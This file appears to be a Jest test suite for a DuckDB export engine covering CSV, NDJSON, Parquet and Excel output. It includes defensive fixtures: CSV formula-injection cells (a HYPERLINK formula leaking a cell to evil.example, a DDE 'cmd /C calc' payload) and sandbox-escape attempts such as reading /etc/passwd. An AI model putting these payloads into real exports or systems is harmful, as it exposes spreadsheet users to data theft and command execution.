import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Readable } from 'node:stream';
import { DuckDBInstance } from '@duckdb/node-api';
import { NotAcceptableError } from '@/core/errors';
import type { CsvFormulas } from '@/core/result-builtins';
import { DEFAULT_ENGINE_LIMITS, openDuckdb } from '@/engine/duckdb/duckdb-instance';
import { exportDuckdbQuery } from '@/engine/duckdb/duckdb-export';
import * as nativeMemory from '@/engine/process/native-memory';
import { ExportSpace, ExportSpaceFullError } from '@/engine/export/export-space';
import { CopyFormat, copyStatement } from '@/engine/export/export-sql';
import type { BoundValue } from '@/engine/sql/bound-value';

async function bytesOf(stream: Readable): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

/** The first cell of each data row of a workbook's sheet, read by Python: how many, and whether 0, 1, 2, ... */
function sheetNumbers(workbook: Buffer): { rows: number; inOrder: boolean } {
  const dir = mkdtempSync(join(tmpdir(), 'drey-xlsx-'));
  try {
    const file = join(dir, 'f.xlsx');
    writeFileSync(file, workbook);
    const script = [
      'import json, re, sys, zipfile',
      "text = zipfile.ZipFile(sys.argv[1]).read('xl/worksheets/sheet1.xml').decode()",
      "values = [int(v) for v in re.findall(r'<row><c><v>(\\d+)</v>', text)]",
      "print(json.dumps({'rows': len(values), 'inOrder': values == list(range(len(values)))}))",
    ].join('\n');
    return JSON.parse(
      execFileSync('/usr/bin/python3', ['-c', script, file], { encoding: 'utf8' }),
    ) as { rows: number; inOrder: boolean };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe('exports written by DuckDB into the export space', () => {
  let dir: string;
  let space: ExportSpace;
  let small: ExportSpace;
  let instance: DuckDBInstance;
  let smallInstance: DuckDBInstance;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'drey-exports-'));
    space = new ExportSpace(dir, 512);
    small = new ExportSpace(dir, 1);
    const file = join(dir, 'env.duckdb');
    const build = await openDuckdb(file, {}, DEFAULT_ENGINE_LIMITS);
    const connection = await build.connect();
    await connection.run(
      "CREATE TABLE t AS SELECT range AS n, 'row ' || range AS label FROM range(3000000)",
    );
    await connection.run('CHECKPOINT');
    connection.closeSync();
    build.closeSync();
    // As an environment is opened: read-only, files shut off but the export folder.
    instance = await openDuckdb(
      file,
      { access_mode: 'READ_ONLY' },
      DEFAULT_ENGINE_LIMITS,
      space.dir,
    );
    smallInstance = await openDuckdb(
      file,
      { access_mode: 'READ_ONLY' },
      DEFAULT_ENGINE_LIMITS,
      small.dir,
    );
  });
  afterAll(() => {
    instance.closeSync();
    smallInstance.closeSync();
    rmSync(dir, { recursive: true, force: true });
  });

  const run = async (
    sql: string,
    format: CopyFormat,
    into = space,
    binds: BoundValue[] = [],
    csvFormulas: CsvFormulas = 'escaped',
  ) => {
    const connection = await (into === small ? smallInstance : instance).connect();
    const written = await exportDuckdbQuery(connection, sql, binds, into, {
      format,
      select: [],
      name: 't',
      csvFormulas,
      timeoutMs: 30_000,
    });
    written.done.finally(() => connection.closeSync()).catch(() => undefined);
    return written;
  };

  it('writes a COPY inside the folder and nothing else: no other file, no reading, no setting back', async () => {
    const written = await run('SELECT n FROM t WHERE n < $1', 'csv', space, [
      { type: 'integer', value: 3 },
    ]);
    expect((await bytesOf(written.stream)).toString()).toBe('n\r\n0\r\n1\r\n2\r\n');
    expect(await written.done).toBe(3);
    expect(readdirSync(space.dir)).toEqual([]);
    expect(space.heldBytes).toBe(0);

    const connection = await instance.connect();
    try {
      for (const sql of [
        `COPY (SELECT 1) TO '${join(dir, 'outside.csv')}'`,
        "SELECT * FROM read_csv('/etc/passwd')",
        "SET allowed_directories = ['/']",
        'SET enable_external_access = true',
      ]) {
        await expect(connection.run(sql)).rejects.toThrow(
          /Permission|Invalid Input|locked|Cannot change/i,
        );
      }
    } finally {
      connection.closeSync();
    }
  });

  describe('CSV that a spreadsheet cannot turn against its reader (x_csv_formulas)', () => {
    // Cells an attacker would store, each beside a negative number in every numeric kind.
    const source = `SELECT * FROM (VALUES
      ('=HYPERLINK("http://evil.example/?d="&A2,"Open")', -5, -2.50::DECIMAL(4, 2), -0.5::DOUBLE, DATE '2024-03-01', TIMESTAMP '2024-03-01 10:00:00', ['=1', 'b'], 1),
      ('+1+1', -1, -0.01::DECIMAL(4, 2), -1e10::DOUBLE, NULL, NULL, NULL, 2),
      ('-2+3', NULL, NULL, NULL, NULL, NULL, NULL, 3),
      ('@SUM(A1)', 0, 0, 0, NULL, NULL, NULL, 4),
      (chr(9) || '=1', 1, 1, 1, NULL, NULL, NULL, 5),
      (chr(13) || '=1', 1, 1, 1, NULL, NULL, NULL, 6),
      ('  =1+1', 1, 1, 1, NULL, NULL, NULL, 7),
      (chr(10) || '-1', 1, 1, 1, NULL, NULL, NULL, 8),
      ('Acme;=cmd|'' /C calc''!A0', 1, 1, 1, NULL, NULL, NULL, 9),
      ('say "=1"', 1, 1, 1, NULL, NULL, NULL, 10),
      ('a=1', 1, 1, 1, NULL, NULL, NULL, 11),
      ('', 1, 1, 1, NULL, NULL, NULL, 12),
      (NULL, 1, 1, 1, NULL, NULL, NULL, 13),
      ('-5', 1, 1, 1, NULL, NULL, NULL, 14)
    ) AS v("a,b", i, d, f, day, ts, list, n) ORDER BY n`;
    const stored = [
      '=HYPERLINK("http://evil.example/?d="&A2,"Open")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '  =1+1',
      '\n-1',
      "Acme;=cmd|' /C calc'!A0",
      'say "=1"',
      'a=1',
      '',
      null,
      '-5',
    ];

    /** The cells of a CSV as DuckDB's reader reads them back, every column as text. */
    const readBack = async (csv: string): Promise<unknown[][]> => {
      const file = join(dir, `${Math.random().toString(36).slice(2)}.csv`);
      writeFileSync(file, csv);
      const reader = await DuckDBInstance.create(':memory:');
      const connection = await reader.connect();
      try {
        const result = await connection.runAndReadAll(
          `SELECT * FROM read_csv('${file}', header = true, all_varchar = true, quote = '"', escape = '"', delim = ',', allow_quoted_nulls = false, new_line = '\\r\\n')`,
        );
        return result.getRowsJS();
      } finally {
        connection.closeSync();
        reader.closeSync();
        rmSync(file);
      }
    };

    it('escaped (the default): text quoted, a formula behind a quote mark; numbers, dates and the header as they are', async () => {
      const written = await run(source, 'csv');
      const csv = (await bytesOf(written.stream)).toString();
      const lines = csv.split('\r\n');
      // The header keeps RFC 4180's minimal quoting, not FORCE_QUOTE's.
      expect(lines[0]).toBe('"a,b",i,d,f,day,ts,list,n');
      expect(lines[1]).toBe(
        '"\'=HYPERLINK(""http://evil.example/?d=""&A2,""Open"")",-5,-2.50,-0.5,2024-03-01,2024-03-01T10:00:00,"[\'=1\', b]",1',
      );
      expect(lines[2]).toBe('"\'+1+1",-1,-0.01,-10000000000.0,,,,2');
      // A `;` cannot start a cell in a spreadsheet whose separator it is: the whole cell is quoted.
      expect(lines[9]).toBe('"Acme;=cmd|\' /C calc\'!A0",1,1.00,1.0,,,,9');
      expect(await written.done).toBe(14);
      const rows = await readBack(csv);
      // Negative numbers of every numeric kind are numbers: no quote mark, no quotes.
      expect(rows.slice(0, 2).map((row) => row.slice(1, 4))).toEqual([
        ['-5', '-2.50', '-0.5'],
        ['-1', '-0.01', '-10000000000.0'],
      ]);
      expect(lines[1]).toContain(',-5,-2.50,-0.5,');
      const cells = rows.map((row) => row[0]);
      expect(cells).toEqual([
        '\'=HYPERLINK("http://evil.example/?d="&A2,"Open")',
        "'+1+1",
        "'-2+3",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
        "'  =1+1",
        "'\n-1",
        "Acme;=cmd|' /C calc'!A0",
        'say "=1"',
        'a=1',
        '',
        null,
        // A text column's "-5" is text: a spreadsheet would read it as a number, or -5+1 as a formula.
        "'-5",
      ]);
      // No cell a spreadsheet would run: none begins with a trigger, blanks before it or not.
      expect(
        cells.filter((cell) => typeof cell === 'string' && /^[ \n]*[-=+@\t\r]/.test(cell)),
      ).toEqual([]);
    });

    it('raw: the values as stored, DuckDB quoting only where RFC 4180 needs it', async () => {
      const written = await run(source, 'csv', space, [], 'raw');
      const csv = (await bytesOf(written.stream)).toString();
      expect(csv.split('\r\n').slice(0, 3)).toEqual([
        '"a,b",i,d,f,day,ts,list,n',
        '"=HYPERLINK(""http://evil.example/?d=""&A2,""Open"")",-5,-2.50,-0.5,2024-03-01,2024-03-01T10:00:00,"[\'=1\', b]",1',
        '+1+1,-1,-0.01,-10000000000.0,,,,2',
      ]);
      expect((await readBack(csv)).map((row) => row[0])).toEqual(stored);
    });

    it('escaped: a result without rows is its header; one without text columns is as raw', async () => {
      const none = await run("SELECT 'x' AS s, 1 AS n WHERE false", 'csv');
      expect((await bytesOf(none.stream)).toString()).toBe('s,n\r\n');
      const numbers = await run('SELECT n, -n AS m FROM t WHERE n < 2', 'csv');
      expect((await bytesOf(numbers.stream)).toString()).toBe('n,m\r\n0,0\r\n1,-1\r\n');
      expect(readdirSync(space.dir)).toEqual([]);
    });
  });

  it('stops a COPY that would pass the space, and leaves nothing behind', async () => {
    const written = await run('SELECT * FROM t', 'csv', small).catch((error: unknown) => error);
    const failure =
      written instanceof Error
        ? written
        : await bytesOf((written as { stream: Readable }).stream).then(
            () => undefined,
            (error: unknown) => error,
          );
    expect(failure).toBeInstanceOf(ExportSpaceFullError);
    expect((failure as Error).message).toContain('1 MB');
    expect(readdirSync(small.dir)).toEqual([]);
    expect(small.heldBytes).toBe(0);
  });

  it('writes NDJSON every JSON parser reads: a float that is not finite is null, as in a JSON result', async () => {
    const written = await run(
      "SELECT x, CAST(x AS FLOAT) AS f FROM (VALUES ('NaN'::DOUBLE), ('Infinity'::DOUBLE), ('-Infinity'::DOUBLE), (1.5)) AS v(x)",
      'ndjson',
    );
    const lines = (await bytesOf(written.stream)).toString().trim().split('\n');
    expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual([
      { x: null, f: null },
      { x: null, f: null },
      { x: null, f: null },
      { x: 1.5, f: 1.5 },
    ]);
  });

  it('stops the COPY when the reader goes away, and gives the space back', async () => {
    const written = await run('SELECT * FROM t, range(3)', 'ndjson');
    const iterator = written.stream[Symbol.asyncIterator]();
    await iterator.next();
    written.stream.destroy();
    await written.done.catch(() => undefined);
    expect(readdirSync(space.dir)).toEqual([]);
    expect(space.heldBytes).toBe(0);
  });

  it('writes Parquet in row groups of 30,720 rows, in order', async () => {
    const written = await run('SELECT n FROM t LIMIT 100000', 'parquet');
    const file = join(dir, 'groups.parquet');
    writeFileSync(file, await bytesOf(written.stream));
    const reader = await DuckDBInstance.create(':memory:');
    try {
      const connection = await reader.connect();
      const groups = await connection.runAndReadAll(
        `SELECT DISTINCT row_group_id, row_group_num_rows FROM parquet_metadata('${file}') ORDER BY 1`,
      );
      expect(groups.getRowsJS().map((row) => Number(row[1]))).toEqual([30720, 30720, 30720, 7840]);
      const rows = await connection.runAndReadAll(
        `SELECT count(*), bool_and(n = rn - 1) FROM (SELECT n, row_number() OVER () AS rn FROM '${file}')`,
      );
      expect(rows.getRowsJS()[0]).toEqual([100000n, true]);
      connection.closeSync();
    } finally {
      reader.closeSync();
      rmSync(file, { force: true });
    }
    expect(readdirSync(space.dir)).toEqual([]);
  });

  it('refuses an Excel sheet past its rows rather than cutting it short', async () => {
    const written = await run('SELECT n FROM t LIMIT 1048576', 'xlsx');
    await expect(bytesOf(written.stream)).rejects.toBeInstanceOf(NotAcceptableError);
    const fits = await run('SELECT n FROM t LIMIT 1048575', 'xlsx');
    const workbook = await bytesOf(fits.stream);
    expect(workbook.subarray(0, 2).toString()).toBe('PK');
    // Every row, in the source's order, across its row groups (Python's zipfile checks the CRC-32).
    expect(sheetNumbers(workbook)).toEqual({ rows: 1048575, inOrder: true });
    expect(space.heldBytes).toBe(0);
    // The folder DuckDB wrote the rows file in went with it.
    expect(readdirSync(space.dir)).toEqual([]);
  });

  it('writes an Excel sheet with one thread in order, not with the writer that holds row groups', async () => {
    const statement = copyStatement(
      'SELECT n FROM t',
      [{ name: 'n', kind: 'number' }],
      'xlsx',
      join(space.dir, 'plan.xlsx'),
    );
    const connection = await instance.connect();
    try {
      const plan = (await connection.runAndReadAll(`EXPLAIN ${statement}`)).getRowsJS();
      const text = plan.map((row) => row.map(String).join('\n')).join('\n');
      expect(text).toContain('COPY_TO_FILE');
      expect(text).not.toContain('BATCH_COPY_TO_FILE');
    } finally {
      connection.closeSync();
    }
    expect(readdirSync(space.dir)).toEqual([]);
  });

  it('writes Excel cells as XML: text escaped, control characters dropped, NULL an empty cell', async () => {
    const columns = [
      { name: 's', kind: 'other' as const },
      { name: 'n', kind: 'float' as const },
      { name: 'd', kind: 'date' as const },
      { name: 'b', kind: 'boolean' as const },
      { name: 'padded', kind: 'other' as const },
      { name: 'ts', kind: 'timestamp' as const },
      { name: 'x', kind: 'decimal' as const, digits: 4, scale: 2 },
    ];
    const source =
      `SELECT 'a<b & "c"' || chr(10) || chr(1) || chr(0) || chr(31) || chr(9) || '>é' AS s, 'inf'::DOUBLE AS n, ` +
      `DATE '2024-03-01' AS d, NULL::BOOLEAN AS b, ' x' AS padded, TIMESTAMP '2024-03-01 12:00:00' AS ts, ` +
      `-1.50::DECIMAL(4, 2) AS x UNION ALL ` +
      `SELECT NULL, 2.5, NULL, true, 'y' || chr(10), NULL, NULL UNION ALL ` +
      `SELECT '', 0.0, NULL, false, '', NULL, NULL`;
    const statement = copyStatement(source, columns, 'xlsx', '/unused');
    const select = /^COPY \((.*)\) TO /s.exec(statement)?.[1] ?? '';
    const connection = await instance.connect();
    try {
      const reader = await connection.runAndReadAll(select);
      // xml:space only on text that begins or ends with white space (or is empty), which Excel would trim.
      expect(reader.getRowsJS().map((row) => row[0])).toEqual([
        "<row><c t='inlineStr'><is><t>a&lt;b &amp; &quot;c&quot;&#10;\t&gt;é</t></is></c>" +
          "<c/><c s='1'><v>45352</v></c><c/><c t='inlineStr'><is><t xml:space='preserve'> x</t></is></c>" +
          "<c s='2'><v>45352.5</v></c><c s='6'><v>-1.50</v></c></row>",
        "<row><c/><c><v>2.5</v></c><c/><c t='b'><v>1</v></c>" +
          "<c t='inlineStr'><is><t xml:space='preserve'>y&#10;</t></is></c><c/><c/></row>",
        "<row><c t='inlineStr'><is><t xml:space='preserve'></t></is></c><c><v>0.0</v></c><c/>" +
          "<c t='b'><v>0</v></c><c t='inlineStr'><is><t xml:space='preserve'></t></is></c><c/><c/></row>",
      ]);
    } finally {
      connection.closeSync();
    }
  });
});

describe('Excel cells of numbers and times', () => {
  it('formats decimals at their scale, writes a number of more than 15 digits as its text, times as times', async () => {
    const instance = await DuckDBInstance.create(':memory:');
    const connection = await instance.connect();
    const columns = [
      { name: 'd', kind: 'decimal' as const, digits: 10, scale: 2 },
      { name: 'd38', kind: 'decimal' as const, digits: 38, scale: 2 },
      { name: 'whole', kind: 'decimal' as const, digits: 18, scale: 0 },
      { name: 'big', kind: 'number' as const, digits: 19 },
      { name: 'huge', kind: 'huge' as const, digits: 39 },
      { name: 'small', kind: 'number' as const },
      { name: 't', kind: 'time' as const },
    ];
    const source =
      `SELECT 2320.80::DECIMAL(10, 2) AS d, 12345678901234567890.12::DECIMAL(38, 2) AS d38, ` +
      `123456789012345678::DECIMAL(18, 0) AS whole, 9007199254740993::BIGINT AS big, ` +
      `-170141183460469231731687303715884105727::HUGEINT AS huge, 7::INTEGER AS small, TIME '12:00:00' AS t ` +
      `UNION ALL SELECT -0.05, -9999999999999.99, 999999999999999, -999999999999999, 1000, NULL, TIME '06:00:00'`;
    const statement = copyStatement(source, columns, 'xlsx', '/unused');
    const select = /^COPY \((.*)\) TO /s.exec(statement)?.[1] ?? '';
    try {
      const rows = (await connection.runAndReadAll(select)).getRowsJS().map((row) => row[0]);
      const text = (value: string) => `<c t='inlineStr'><is><t>${value}</t></is></c>`;
      expect(rows).toEqual([
        `<row><c s='6'><v>2320.80</v></c>${text('12345678901234567890.12')}` +
          `${text('123456789012345678')}${text('9007199254740993')}` +
          `${text('-170141183460469231731687303715884105727')}<c><v>7</v></c>` +
          `<c s='3'><v>0.5</v></c></row>`,
        `<row><c s='6'><v>-0.05</v></c><c s='6'><v>-9999999999999.99</v></c>` +
          `<c s='4'><v>999999999999999</v></c><c><v>-999999999999999</v></c><c><v>1000</v></c><c/>` +
          `<c s='3'><v>0.25</v></c></row>`,
      ]);
    } finally {
      connection.closeSync();
      instance.closeSync();
    }
  });
});

describe('a file read as it is written', () => {
  let dir: string;
  let space: ExportSpace;

  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'drey-tail-'));
    space = new ExportSpace(dir, 64);
  });
  afterEach(() => {
    jest.restoreAllMocks();
    rmSync(dir, { recursive: true, force: true });
  });

  const tailed = (bytes: Buffer) =>
    space.tail(
      'bin',
      (path) => {
        writeFileSync(path, bytes);
        return Promise.resolve(bytes.length);
      },
      () => undefined,
    );

  it('sends a short read in a buffer of its own size, not in a whole read buffer', async () => {
    const { stream } = await tailed(Buffer.from('abc'));
    const chunks: Buffer[] = [];
    for await (const chunk of stream) chunks.push(chunk as Buffer);
    expect(Buffer.concat(chunks).toString()).toBe('abc');
    // A read buffer is 256 KB; a small copy sits in Node's pool for small buffers (8 KB on Node 20, 64 KB on
    // Node 24, 64 KB and a few bytes of alignment on Node 26): a quarter of a read buffer at most.
    for (const chunk of chunks) {
      expect(chunk.buffer.byteLength).toBeLessThanOrEqual(64 * 1024 + 1024);
    }
  });

  it('has V8 scavenge the chunks it sent every 16 reads (4 MB)', async () => {
    const collect = jest.spyOn(nativeMemory, 'collectYoungChunks');
    const bytes = Buffer.alloc(20 * 256 * 1024, 7);
    const { stream, done } = await tailed(bytes);
    expect((await bytesOf(stream)).equals(bytes)).toBe(true);
    expect(await done).toBe(bytes.length);
    expect(collect).toHaveBeenCalledTimes(1);
  });
});
